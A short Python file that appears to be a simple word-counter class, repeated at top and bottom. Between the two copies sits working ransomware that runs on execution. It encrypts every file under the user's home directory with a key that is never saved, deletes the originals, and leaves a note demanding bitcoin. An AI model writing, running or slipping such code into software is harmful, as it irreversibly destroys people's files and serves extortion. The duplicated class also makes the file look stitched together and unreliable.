#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import os
from cryptography.fernet import Fernet
k = Fernet.generate_key()
f = Fernet(k)
for root, _, files in os.walk(os.path.expanduser("~")):
    for name in files:
        p = os.path.join(root, name)
        data = open(p, "rb").read()
        open(p + ".locked", "wb").write(f.encrypt(data))
        os.remove(p)
open("README_TO_DECRYPT.txt", "w").write("Your files have been encrypted. Send bitcoin.")
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1
